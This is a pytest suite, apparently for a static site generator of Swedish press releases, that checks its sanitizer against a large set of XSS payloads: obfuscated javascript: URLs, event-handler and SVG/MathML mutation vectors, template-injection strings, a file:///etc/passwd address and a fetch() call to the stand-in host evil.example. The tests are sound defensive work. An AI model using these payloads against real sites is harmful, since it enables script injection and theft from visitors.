"""Whatever is written in a text or a field: nothing runs or is fetched, and it can still be read."""

from __future__ import annotations

import html
import json
import re
import shutil
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from conftest import SITE, Press, bare
from icalendar import Calendar
from peer import web_host
from photo import picture
from playwright.sync_api import Browser, Dialog

from pressrum.errors import BadSource
from pressrum.parse.project import parse_project
from pressrum.typography import typeset

EVIL = "https://evil.example/"
RUN = "top.pwned=1;fetch('//evil.example/ran')"
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
    f"view-source:{EVIL}",
    f"blob:{EVIL}",
    "file:///etc/passwd",
    "//evil.example/bild.png",
    "\\\\evil.example\\bild.png",
    "/\\evil.example/bild.png",
    "/%5Cevil.example/bild.png",
)
"""Where a link or a picture must never lead."""
PLACES = (
    "[länk]({})",
    "[länk](<{}>)",
    '[länk]({} "titel")',
    "![bild]({})",
    "[länk][x]\n\n[x]: {}",
    "![bild][x]\n\n[x]: <{}> 'titel'",
    "<{}>",
    '<a href="{}">länk</a>',
    "<a href='{}'>länk</a>",
    "<a href={}>länk</a>",
    '<img alt="bild" src="{}">',
    '<img alt="bild" src="bild.png" srcset="{} 2x">',
    '<table background="{}"><tr><td>cell</td></tr></table>',
    '<blockquote cite="{}">citat</blockquote>',
    '<q cite="{}">citat</q>',
    '<a href="#" ping="{}">länk</a>',
    "Fotnot[^1]\n\n[^1]: [länk]({})",
    "| a |\n|---|\n| [länk]({}) |",
    "- [länk]({})\n- två",
    "> [länk]({})",
    "– [länk]({}), säger Anna Ek.",
    "## [länk]({})",
)
MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={EVIL}x.js></script>",
    f"<img src=x alt=x onerror={RUN}>",
    f'<img alt="x" src="x"onerror="{RUN}">',
    f"<img alt=x/src/onerror={RUN}>",
    f"<p onclick={RUN} onmouseover={RUN}>text</p>",
    f"<b OnFocus={RUN} tabindex=0 autofocus>text</b>",
    f"<svg onload={RUN}><circle/></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><use href={EVIL}x.svg#a></use></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>text</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<math><mi xlink:href=javascript:{RUN}>text</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img src onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f'<p style="background:url({EVIL}x.png)">text</p>',
    "<p style='position:fixed;inset:0;z-index:99'>text</p>",
    "<p hidden>text</p>",
    f"<style>@import '{EVIL}x.css'; body {{ display: none }}</style>",
    f"<link rel=stylesheet href={EVIL}x.css>",
    f"<link rel=preconnect href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<iframe src={EVIL}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data={EVIL}x></object>",
    f"<embed src={EVIL}x>",
    f"<frameset><frame src={EVIL}></frameset>",
    f"<video src={EVIL}x.mp4 autoplay poster={EVIL}x.png></video>",
    f"<audio src={EVIL}x.mp3 autoplay></audio>",
    f"<picture><source srcset={EVIL}x.webp><img src=bild.png alt=x></picture>",
    f"<form action={EVIL}><input name=lösenord><button>Skicka</button></form>",
    f"<isindex action={EVIL}>",
    f"<portal src={EVIL}></portal>",
    f"<details open ontoggle={RUN}>text</details>",
    f"<marquee onstart={RUN}>text</marquee>",
    f"<body onload={RUN}>",
    f"<html manifest={EVIL}x>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='{EVIL}x.xsl'?>",
    f"<!DOCTYPE x [<!ENTITY x SYSTEM '{EVIL}'>]>",
    f"</main></body></html><script>{RUN}</script>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"`<script>{RUN}</script>`",
    f"    <script>{RUN}</script>",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"[a]: b 'x\" onmouseover={RUN} '\n\n[a][a]",
    f"[a](bild.png 'x\" onmouseover=\"{RUN}')",
    f'![x" onerror={RUN} "](bild.png)',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<a href='/#x\" tabindex=1 autofocus onfocus=\"{RUN}'>x</a>",
    f'[a](</#x"autofocus/onfocus="{RUN}>)',
    "<a id=main href=#>x</a><a name=getElementById href=#>x</a>",
    "<h2 id=main>x</h2>",
    "<li id=body>x</li>",
    "<img name=body src=bild.png alt=x>",
    "<sup id=list>x</sup>",
    "<span class=map data-turns=2000-01-01>x</span>",
    "<div data-copies=body data-done=x class=unseen><button>x</button></div>",
    "## main",
    "## Location\n\n## constructor\n\n## \\_\\_proto\\_\\_\n\n## getElementById",
    "{{ 7 * 7 }} {% raw %} {# borta #} {{ site.contacts }} ${7*7} #{7*7} <%= 7*7 %>",
    "[[tour]]<script>top.pwned=1</script>",
    "<p><b lang='\n[[tour]]\n'>a</b> <a href='/#\n[[tour]]\n'>b</a></p>",
    "\ue0000\ue001 \ue002 &#xe000;0&#xe001; &#57346;",
    "[a](/ '&#0000057344;7&#0000057345; &#x00000E002;')\n\n&#0000057344;7&#0000057345;",
    "a\u202egnp.exe\u202c b",
)
"""Markdown and HTML that would do something, were it let."""
WORDS = (
    f'"\'><script>{RUN}</script><img src=x onerror="{RUN}"></title></style></textarea></script>'
    " {{ 7 * 7 }} {% x %} {# y #} ]]> --> &amp; \\ ^ ; , %00"
)
"""What stands in every field that takes words."""
IN_A_LINE = " ".join(WORDS.split())
"""The same as a field of one line has it."""


@dataclass
class Visit:
    """What a browser has met on the pages that it was shown."""

    ran: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)
    left: list[str] = field(default_factory=list)
    """Pages that led to elsewhere by themselves, or are covered, or whose marks are not their own."""


def visit(browser: Browser, output: Path, *, policy: bool) -> Visit:
    """Show every page of a site to a browser, with the policy of the site or as if there were none."""
    met = Visit()

    def heard(dialog: Dialog) -> None:
        met.ran.append(dialog.message)
        dialog.dismiss()

    with web_host(output) as url, browser.new_context(bypass_csp=not policy) as context:
        page = context.new_page()
        context.on("request", lambda asked: met.asked.append(asked.url))
        page.on("dialog", heard)
        page.on("pageerror", lambda error: met.said.append(str(error)))
        page.on("console", lambda told: met.said.append(told.text) if told.type == "error" else None)
        for file in sorted(output.rglob("*.html")):
            address = f"{url}/{file.relative_to(output).as_posix()}"
            if b'class="on-redirect' in file.read_bytes():
                page.goto(address, wait_until="commit")
                page.wait_for_url(re.compile(f"^(?!{re.escape(address)}$)"))
            else:
                page.goto(address)
            page.wait_for_timeout(20)
            met.ran += [address] if page.evaluate("'pwned' in window") else []
            seen = page.evaluate(
                """() => {
                    const ids = [...document.querySelectorAll("[id]")].map((part) => part.id);
                    return [
                        new Set(ids).size === ids.length,
                        document.getElementById("main").tagName === "MAIN",
                        document.forms.length <= 2 && document.body.tagName === "BODY",
                        getComputedStyle(document.querySelector("main")).display !== "none",
                        document.querySelectorAll("iframe, object, embed, base, svg script").length === 0,
                    ];
                }"""
            )
            met.left += [f"{address} {seen}"] if not all(seen) or not page.url.startswith(url) else []
        met.asked = [asked for asked in met.asked if not asked.startswith(url)]
    return met


def quoted(text: str) -> str:
    """Give a text as a value in YAML."""
    return "'" + text.replace("'", "''") + "'"


def release(text: str, title: str = "Öppet möte", more: str = "") -> bytes:
    """Give a release with `text` below its fields."""
    return f"---\ntitle: {quoted(title)}\ndate: 2016-11-28 09:00\n{more}---\n\n{text}\n".encode()


def accepted(text: str) -> bool:
    """Whether a release with `text` is read without a mistake in the text itself."""
    sources = {"site.yaml": SITE.encode(), "content/releases/2016-11-28-a.md": release(text)}
    parsed = parse_project(sources, frozenset(), date(2016, 11, 28))
    return not parsed.mistakes and not any(one.body.losses for one in parsed.project.releases)


TEXTS = tuple(place.format(address) for place in PLACES for address in ADDRESSES) + MARKUP


def test_no_text_leads_where_it_must_not() -> None:
    """No link, picture or HTML with an address that runs or leads astray is published as it stands."""
    led: list[str] = []
    for text in TEXTS:
        sources = {"site.yaml": SITE.encode(), "content/releases/2016-11-28-a.md": release(text)}
        for one in parse_project(sources, frozenset(), date(2016, 11, 28)).project.releases:
            targets = re.findall(r'(?:href|src|cite|srcset|background|ping)="([^"]*)"', one.body.html)
            led += [f"{text!r}: {one.body.html}" for target in targets if not re.match("\ue000|#", target)]

    assert led == []


def test_no_address_breaks_out_of_its_link(press: Press) -> None:
    """What a link's address ends in stays within the attribute, on the page and in what feeds hold of it."""
    tail = "#x\" onclick=a&b '<c>"
    press.write("content/releases/2016-11-28-a.md", release(f"<a href='/{html.escape(tail)}'>länk</a>"))
    press.build()
    feed = json.loads(press.page("/feed.json"))
    held = "".join(item["content_html"] for item in feed["items"])

    for text, root in (
        (press.page("/pressmeddelanden/2016/a/"), "../../../"),
        (held, "https://press.example/"),
    ):
        (tag,) = re.findall(r"<a ([^<]*)>länk</a>", text)
        assert tag == f'href="{root}{html.escape(tail)}"'


@pytest.fixture(scope="module")
def survivors(tmp_path_factory: pytest.TempPathFactory) -> Press:
    """Give a site, built, with a release for each text that is let through."""
    press = bare(tmp_path_factory.mktemp("survivors"))
    for number, text in enumerate(TEXTS):
        folder = f"content/releases/2016-11-28-text-{number}/"
        press.write(folder + "index.md", release(text, f"Text {number}"))
        press.write(folder + "bild.png", picture("PNG", (40, 30)))
    with pytest.raises(BadSource) as refused:
        press.build()
    for path in {mistake.where.path for mistake in refused.value.mistakes}:
        shutil.rmtree((press.root / path).parent)
    press.build()
    return press


@pytest.mark.torture
@pytest.mark.parametrize("policy", [True, False])
def test_nothing_in_a_text_runs_or_is_fetched(survivors: Press, browser: Browser, *, policy: bool) -> None:
    """Of all texts that are published none runs, fetches or renames a thing, even without the policy."""
    met = visit(browser, survivors.root / "output", policy=policy)

    assert len(list((survivors.root / "content/releases").iterdir())) > 25
    assert met == Visit()


Q = quoted(WORDS)
EVIL_SITE = f"""\
title: {Q}
url: https://press.example/
description: {Q}
accent: "#c8102e"
search: ja
contacts:
  {Q}: {{name: {Q}, role: {Q}, email: "a+x@press.example", phone: 08-508 29 000, hours: {Q}}}
accessibility:
  status: delvis
  supervised: ja
  method: självskattning
  assessed: 2016-11-01
  reviewed: 2016-11-02
  responsible: {Q}
  tested: {Q}
  answer: {Q}
  shortcomings: [{{what: {Q}, why: {Q}, instead: {Q}}}]
privacy: {{controller: {Q}, logs: {Q}}}
security: {{contact: "https://press.example/{{{{7*7}}}}%0A';`", expires: 2017-10-31}}
tour: {{map: karta.geojson}}
"""
EVIL_TOUR = f"""\
title: {Q}
description: {Q}
meetings:
  - {{district: {Q}, date: 2016-12-29, time: 18.00, place: {Q}, address: {Q}, organiser: {Q}, with: {Q},
     about: {Q}, signup: {Q}, access: {Q}, languages: [{Q}], id: a, geo: "59.3,18.0"}}
  - {{district: {Q}, date: 2016-12-30, cancelled: {Q}, id: b}}
"""
PICTURE = "bild ' \" onerror=x <b> &amp; {x} å.png"
EVIL_FIELDS = f"""\
lead: {Q}
topics: [{Q}]
contacts: [{Q}]
meetings: [a, b]
image: {{file: {quoted(PICTURE)}, alt: {Q}, credit: {Q}, caption: {Q}}}
corrections: [{{date: 2016-11-29, text: {Q}}}]
"""


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Press:
    """Give a site, built, in which every field that takes words holds what would break out of its place."""
    press = bare(tmp_path_factory.mktemp("evil"))
    press.write("site.yaml", EVIL_SITE)
    press.write("tour.yaml", EVIL_TOUR)
    outline = [[[18.0, 59.0], [18.1, 59.0], [18.1, 59.1], [18.0, 59.0]]]
    shape = {"type": "Polygon", "coordinates": outline}
    district = {"type": "Feature", "properties": {"name": WORDS}, "geometry": shape}
    press.write("karta.geojson", json.dumps({"type": "FeatureCollection", "features": [district]}))
    folder = "content/releases/2016-11-28-ond/"
    press.write(folder + "index.md", release("[[tour]]\n\n{{ 7 * 7 }} {% x %}", WORDS, EVIL_FIELDS))
    press.write(folder + PICTURE, picture("PNG", (400, 300)))
    press.write("content/releases/2016-11-29-indragen.md", release("Text", WORDS, f"retracted: {Q}\n"))
    press.write("content/pages/om.md", f"---\ntitle: {Q}\nlead: {Q}\naliases: [/gammal/]\n---\n\nText\n")
    press.build()
    return press


@pytest.mark.parametrize("policy", [True, False])
def test_nothing_in_a_field_runs_or_is_fetched(evil: Press, browser: Browser, *, policy: bool) -> None:
    """No field of any source breaks out of its place on any page, even without the policy."""
    assert visit(browser, evil.root / "output", policy=policy) == Visit()


def same(text: str) -> str:
    """Give a text without what typesetting changes."""
    straight = text.replace("–", "--").translate(dict.fromkeys(map(ord, "”’“‘'"), '"'))
    return " ".join(straight.split())


def test_what_a_field_says_can_be_read(evil: Press, browser: Browser) -> None:
    """Every word of it, signs and all, stands on the page as it was written."""
    with web_host(evil.root / "output") as url, browser.new_context() as context:
        page = context.new_page()
        page.goto(f"{url}/pressmeddelanden/2016/ond/")

        assert same(WORDS) in same(page.locator("h1").inner_text())
        assert same(page.locator("main").inner_text()).count(same(WORDS)) > 10
        assert "{{ 7 * 7 }} {% x %}" in page.locator("main .text").inner_text()
        assert same(WORDS) in same(page.title())
        assert same(page.locator("img").get_attribute("alt") or "") == same(WORDS)


def test_linked_data_stays_within_its_element(evil: Press) -> None:
    """The JSON-LD of a page is one element, and says what the field says."""
    html = evil.page("/pressmeddelanden/2016/ond/")
    found = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.DOTALL)

    assert [json.loads(one)["headline"] for one in found] == [IN_A_LINE]


def test_feeds_say_what_the_field_says(evil: Press) -> None:
    """Atom and JSON feeds can be read, and hold the words and no element more than they should."""
    feed = ET.fromstring(evil.page("/feed.xml"))
    atom = "{http://www.w3.org/2005/Atom}"
    document = json.loads(evil.page("/feed.json"))
    words = typeset(IN_A_LINE, "sv")

    assert [part.text for part in feed.iter(f"{atom}title")][1] in (
        words,
        "Indraget pressmeddelande",
    )
    assert {part.tag.removeprefix(atom) for part in feed.iter()} == {
        *(
            "feed",
            "id",
            "title",
            "updated",
            "author",
            "name",
            "link",
            "entry",
            "published",
            "summary",
            "content",
        ),
        "category",
    }
    assert words in [one["title"] for one in document["items"]]


def category(event: Any) -> str:
    """Give the one category of an event."""
    return str(event["CATEGORIES"].cats[0])


def test_calendars_say_what_the_field_says(evil: Press) -> None:
    """Calendars and cards have the lines that they should, and their texts are those of the fields."""
    for file in evil.root.glob("output/**/*.ics"):
        calendar = Calendar.from_ical(file.read_bytes())
        events = calendar.walk("VEVENT")

        assert len(events) in (1, 2)
        assert set(map(category, events)) == {IN_A_LINE}
        assert all(re.match(rb"[A-Z-]+[;:]|[ ]", line) for line in file.read_bytes().split(b"\r\n")[:-1])
    (card,) = evil.root.glob("output/**/*.vcf")
    lines = card.read_text(encoding="utf-8").replace("\n ", "").split("\n")

    assert [line.split(":")[0].split(";")[0] for line in lines if line] == [
        *("BEGIN", "VERSION", "FN", "N", "ORG", "TITLE", "TEL", "EMAIL", "NOTE", "URL", "END"),
    ]


def test_what_hosts_are_told_does_not_depend_on_words(evil: Press, press: Press) -> None:
    """No field of words reaches the files that hosts read; security.txt has its three lines."""
    press.write("site.yaml", SITE + "search: ja\n")
    press.build()

    for name in ("_headers", "nginx.conf", ".htaccess"):
        assert evil.page(f"/{name}") == press.page(f"/{name}")
    assert [line.split(":")[0] for line in evil.page("/.well-known/security.txt").splitlines()] == [
        *("Contact", "Expires", "Canonical"),
    ]
